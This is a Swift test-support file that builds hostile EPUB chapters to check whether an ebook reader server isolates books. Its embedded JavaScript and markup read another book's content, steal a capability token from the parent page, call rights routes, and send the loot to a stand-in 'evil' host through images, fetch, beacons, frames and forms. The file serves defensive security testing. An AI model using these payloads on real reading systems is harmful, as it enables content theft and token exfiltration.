import Foundation
import TestSupport

/// Publications written to attack the server from inside a browser: their documents try
/// every path to another served book, to the rights routes and to the network (scripts,
/// then markup alone for when no script runs). Each attack that succeeds reaches `evil`
/// (another origin, a loopback test server) or spends rights; a safe server lets none do.
enum HostilePublications {
    /// The script of a hostile chapter: synchronous requests while the document is parsed
    /// (so that they are over once the frame has loaded), then the loot written into an
    /// image that the frame's `load` waits for, and every other way out besides.
    static func script(evil: String) -> String {
        """
        (function () {
          function get(url, headers) {
            try {
              const request = new XMLHttpRequest();
              request.open('GET', url, false);
              for (const name in (headers || {})) { request.setRequestHeader(name, headers[name]); }
              request.send();
              return request.status + ':' + request.responseText.slice(0, 300);
            } catch (error) { return 'blocked'; }
          }
          document.documentElement.setAttribute('data-hostile-ran', 'yes');
          const loot = [];
          // Another served book, by the paths a shared origin would give.
          loot.push(get('../../2/EPUB/wasteland-content.xhtml'));
          loot.push(get('../../2/~readium/rights/print?pageCount=10'));
          loot.push(get('../../2/~readium/rights/copy?peek=false&text=' + 'x'.repeat(2000)));
          // The reader page's capability, from the parent's DOM or by fetching the page.
          let capability = '';
          try { capability = parent.document.querySelector('meta[name="lectern-capability"]').content; } catch (error) { capability = ''; }
          try {
            const page = get('../');
            const found = /lectern-capability" content="([0-9a-f]+)/.exec(page);
            if (found) { capability = capability || found[1]; }
          } catch (error) { /* no page */ }
          loot.push('capability=' + capability);
          loot.push(get('../~readium/rights/print?pageCount=10', { 'Lectern-Capability': capability }));
          loot.push(get('../~readium/rights/copy?peek=false&text=' + 'y'.repeat(2000), { 'Lectern-Capability': capability }));
          loot.push('url=' + location.href + ' parent=' + (function () { try { return parent.location.href; } catch (e) { return ''; } })());
          const data = encodeURIComponent(loot.join('|'));
          const image = document.createElementNS('http://www.w3.org/1999/xhtml', 'img');
          image.src = '\(evil)/img?d=' + data;
          document.documentElement.appendChild(image);
          try { fetch('\(evil)/fetch?d=' + data, { mode: 'no-cors' }); } catch (error) { /* blocked */ }
          try { navigator.sendBeacon('\(evil)/beacon', data); } catch (error) { /* blocked */ }
          try { new Image().src = '\(evil)/image?d=' + data; } catch (error) { /* blocked */ }
          try { window.open('\(evil)/open?d=' + data); } catch (error) { /* blocked */ }
          try { top.location.href = '\(evil)/top?d=' + data; } catch (error) { /* blocked */ }
        })();
        """
    }

    /// Markup that sends requests to `evil` without any script: styles, fonts, images,
    /// prefetch, frames, objects, media, a `<meta>` asking for the full referrer.
    static func staticAttacks(evil: String) -> String {
        """
        <link rel="stylesheet" href="\(evil)/style.css"/>
        <link rel="prefetch" href="\(evil)/prefetch"/>
        <style>@import url("\(evil)/import.css");
        body { background: url("\(evil)/background.png"); }
        @font-face { font-family: leak; src: url("\(evil)/font.woff"); }
        p { font-family: leak; }</style>
        """
    }

    static func staticBody(evil: String) -> String {
        """
        <p>Hostile chapter.</p>
        <img src="\(evil)/static.png" alt=""/>
        <iframe src="\(evil)/frame"></iframe>
        <object data="\(evil)/object"></object>
        <video src="\(evil)/video"></video>
        <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="\(evil)/svg.png" width="10" height="10"/></svg>
        <p><a id="leave" href="\(evil)/link">Follow</a> <a id="top" href="\(evil)/top-link" target="_top">Top</a>
        <a id="blank" href="\(evil)/blank-link" target="_blank">Blank</a></p>
        <form id="form" action="\(evil)/form" method="get"><input type="hidden" name="d" value="form"/><button id="send" type="submit">Send</button></form>
        """
    }

    /// An EPUB whose one chapter (`OPS/c1.xhtml`) has `head` and `body`.
    static func epub(title: String, head: String, body: String, to path: String) throws {
        let opf = """
            <?xml version="1.0" encoding="UTF-8"?>
            <package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
              <metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
                <dc:identifier id="id">urn:test:\(UUID().uuidString)</dc:identifier>
                <dc:title>\(title)</dc:title><dc:language>en</dc:language>
                <meta property="dcterms:modified">2026-01-01T00:00:00Z</meta>
              </metadata>
              <manifest>
                <item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
                <item id="c1" href="c1.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
              </manifest>
              <spine><itemref idref="c1"/></spine>
            </package>
            """
        let container = TestEPUBs.containerXML
        let nav = """
            <?xml version="1.0" encoding="UTF-8"?>
            <html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>\(title)</title></head>
            <body><nav epub:type="toc"><ol><li><a href="c1.xhtml">Chapter 1</a></li></ol></nav></body></html>
            """
        let chapter = """
            <?xml version="1.0" encoding="UTF-8"?>
            <html xmlns="http://www.w3.org/1999/xhtml"><head><title>Chapter 1</title>\(head)</head>
            <body>\(body)</body></html>
            """
        try ZipBuilder.write([ZipBuilder.Entry("mimetype", "application/epub+zip", compression: .stored),
                              ZipBuilder.Entry("META-INF/container.xml", container),
                              ZipBuilder.Entry("OPS/package.opf", opf),
                              ZipBuilder.Entry("OPS/nav.xhtml", nav),
                              ZipBuilder.Entry("OPS/c1.xhtml", chapter)], to: path)
    }

    /// A route answering every path of the evil server, so that each attempt is recorded.
    static var evilRoutes: [TestHTTPRoute] {
        [TestHTTPRoute("/", headers: ["Content-Type": "text/plain"], text: "loot received", matchesPrefix: true)]
    }
}
